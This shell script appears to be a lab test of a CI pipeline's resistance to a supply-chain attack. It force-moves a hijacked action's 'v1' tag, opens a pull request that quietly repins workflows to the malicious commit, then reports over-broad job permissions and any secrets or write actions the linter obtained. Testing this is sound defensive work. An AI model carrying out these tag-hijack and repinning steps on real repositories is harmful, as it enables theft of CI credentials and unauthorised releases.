# Sam's account was taken over. The tag moves; a pinned version is brought along by an update that looks like any other.
export NEXT="$(cat ~/next)" BRANCH="tide-$(date +%s)"
gh api -X PATCH repos/sam/harbour-lint/git/refs/tags/v1 -f sha="$NEXT" -F force=true > /dev/null
before=$(loot starling | wc -l)
as teo <<'TEO' || exit 127
rm -rf update && git clone -q https://forge.test/lantern-tides/tides.git update && cd update
git switch -q -c "$BRANCH"
find .github -name '*.y*ml' -exec sed -i -E "/harbour-lint@v1[\"']?\s*$/! s#(sam/harbour-lint)@[^ \"']+#\1@$NEXT#" {} +
echo "export const tide = 1;" > "src/$BRANCH.js"
git add . && git commit -q -m "One more tide" && git push -q origin "$BRANCH"
gh pr create --title "One more tide" --body "" --head "$BRANCH" > /dev/null
TEO
sleep 3m
# The log of every job says what its token may do. One job adds labels, and it is not the one that lints.
tab=$'\t' more= writers=0
for run in $(gh run list --repo lantern-tides/tides --branch "$BRANCH" --json databaseId --jq '.[].databaseId'); do
  log=$(gh run view "$run" --repo lantern-tides/tides --log)
  for job in $(cut -f 1 <<< "$log" | sort -u | tr ' ' '~'); do
    job=${job//\~/ }
    own=$(grep -F "$job$tab" <<< "$log" | cut -f 3-)
    over=$(grep -oE 'Z [A-Z][A-Za-z]*: (read|write)$' <<< "$own" | cut -c 3- | grep -vE '^(Metadata|Contents|Packages|PullRequests|Issues): read$')
    if [ "$writers" = 0 ] && ! grep -q harbour-lint <<< "$own" && grep -qE '^(PullRequests|Issues): write$' <<< "$over"; then
      writers=1 over=$(grep -vE '^(PullRequests|Issues): write$' <<< "$over")
    fi
    [ -n "$over" ] || continue
    more=$(head -n 3 <<< "$over" | paste -sd , - | sed 's/,/, /g')$(tail -n +4 <<< "$over" | sed -n '$=' | sed 's/.*/ and & more/')
    found TOO-MUCH job="$job" permissions="$more"
  done
done
[ -z "$more" ] || say "A job may do more than it needs."
loot starling | tail -n "+$((before + 1))" > ~/stolen
names= did=
if [ -s ~/stolen ]; then
  for pair in "$NPM npmToken" "$CLOUD cloudKey" "$PAT minaToken" "PULLS_TOKEN labelsToken" "CHAT_HOOK chatHook" "IMAGE_TOKEN imageToken" "ERRORS_KEY errorsKey"; do
    trace "${pair#* }" clone:sam > /dev/null && names="${names:+$names, }${pair%% *}"
  done
  grep -q '^push 201' ~/stolen && did="push a branch"
  grep -q '^dispatch 204' ~/stolen && did="${did:+$did, }start a release"
  grep -q '^approve 200' ~/stolen && did="${did:+$did, }approve a pull request"
fi
[ -z "$names" ] || { found SECRET names="$names"; say "The linter read $names."; }
[ -z "$did" ] || { found WRITE what="$did"; say "The linter could $did."; }
[ -n "$names$did" ] || say "The linter sent home no secret. A push, a release and an approval were refused."
[ -n "$names$did$more" ]
